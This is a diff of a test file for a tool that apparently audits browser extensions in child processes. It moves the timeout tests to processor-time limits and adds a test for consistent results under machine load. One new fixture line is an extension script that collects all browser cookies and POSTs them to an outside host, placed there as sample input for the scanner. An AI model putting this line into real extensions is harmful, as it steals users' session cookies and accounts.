@@ -17,7 +17,7 @@ const analyzedAt = '2031-05-06T07:08:09.000Z';
 const options = { analyzedAt };
 
 describe('audits in child processes', () => {
-  const pool = createAuditPool({ processes: 2, auditSecondsMax: 30 });
+  const pool = createAuditPool({ processes: 2 });
   after(() => pool.close());
 
   it('give the report, with bytes and maps intact', async () => {
@@ -139,11 +139,37 @@ describe('a child that has grown', () => {
   });
 });
 
+describe('a report', () => {
+  it('is the same alone and on a machine with too much to do (row 46)', async () => {
+    const source = extension({
+      'worker.js': `${slowLine.repeat(500)};chrome.cookies.getAll({}, (c) => fetch('https://in.gather.dev/', { method: 'POST', body: JSON.stringify(c) }))`,
+    });
+    const alone = createAuditPool({ processes: 1 });
+    const crowded = createAuditPool({ processes: 4 });
+    const spinners = Array.from({ length: 2 }, () =>
+      spawn(process.execPath, ['--eval', 'for (;;);'], { stdio: 'ignore' }),
+    );
+    try {
+      const { report } = await crowded.audit(source, options);
+      const others = await Promise.all(
+        Array.from({ length: 5 }, () => crowded.audit(source, options)),
+      );
+      for (const spinner of spinners) spinner.kill('SIGKILL');
+      const expected = JSON.stringify((await alone.audit(source, options)).report);
+      for (const other of [report, ...others.map((audit) => audit.report)])
+        assert.equal(JSON.stringify(other), expected);
+    } finally {
+      for (const spinner of spinners) spinner.kill('SIGKILL');
+      await Promise.all([alone.close(), crowded.close()]);
+    }
+  });
+});
+
 describe('a child that dies', () => {
   const slowCode = slowLine.repeat(60_000);
 
   it('by SIGKILL during an audit: the audit is tried again, another one runs to its end', async () => {
-    const pool = createAuditPool({ processes: 2, auditSecondsMax: 60 });
+    const pool = createAuditPool({ processes: 2 });
     try {
       const before = new Set(childrenOf(process.pid));
       const victim = pool.audit(extension({ 'worker.js': slowCode }), options);
@@ -160,22 +186,31 @@ describe('a child that dies', () => {
     }
   });
 
-  it('by its deadline: the file is left out and the report says how long it took', async () => {
-    const pool = createAuditPool({ processes: 1, auditSecondsMax: 2.5 });
+  it('by the processor time of one script: it alone is left out, and told with what it took', async () => {
+    const pool = createAuditPool({ processes: 1, scriptCpuSecondsMax: 2.5 });
     try {
+      const others = Object.fromEntries(
+        Array.from({ length: 40 }, (_, index) => [`other-${index}.js`, 'let tide = 3;']),
+      );
+      const slow = { 'slow.js': slowCode.repeat(10) };
       const { report } = await pool.audit(
-        extension({ 'slow.js': slowCode.repeat(10), 'worker.js': 'let tide = 3;' }),
+        extension({ ...others, ...slow, 'worker.js': "importScripts('slow.js')" }),
         options,
       );
-      assert.equal(report.coverage.complete, false);
-      assert.match(JSON.stringify(report.coverage.skipped), /longer than 2\.5 s/);
+      assert.deepEqual(report.coverage.skipped, [
+        { what: 'slow.js', why: 'It took more than 2.5 s of processor time.' },
+      ]);
     } finally {
       await pool.close();
     }
   });
 
   it('again and again ends in a report within the time of one audit, and the rest that needs no code', async () => {
-    const pool = createAuditPool({ processes: 1, auditSecondsMax: 3 });
+    const pool = createAuditPool({
+      processes: 1,
+      auditCpuSecondsMax: 3,
+      scriptCpuSecondsMax: 2.5,
+    });
     try {
       const slow = Object.fromEntries(
         Array.from({ length: 6 }, (_, index) => [`slow-${index}.js`, slowCode.repeat(8)]),
@@ -188,6 +223,23 @@ describe('a child that dies', () => {
         /worker\.js.*Processes failed at slow-0\.js;/,
       );
       assert.ok(report.findings.length > 0, 'rules on the manifest still run');
+    } finally {
+      await pool.close();
+    }
+  });
+
+  it('of no processor time says nothing of the package: the audit is to be tried again', async () => {
+    const pool = createAuditPool({ processes: 1, auditSecondsMax: 4 });
+    try {
+      const before = new Set(childrenOf(process.pid));
+      await pool.audit(extension({ 'worker.js': 'let tide = 3;' }), options);
+      const [child] = await waitFor(() => childrenOf(process.pid).filter((id) => !before.has(id)));
+      const begun = cpuSecondsOf(child);
+      const starved = pool.audit(extension({ 'worker.js': slowCode.repeat(10) }), options);
+      const isRefused = assert.rejects(starved, { name: 'BusyMachineError' });
+      await waitFor(() => (cpuSecondsOf(child) > begun + 0.5 ? [child] : []));
+      process.kill(child, 'SIGSTOP');
+      await isRefused;
     } finally {
       await pool.close();
     }
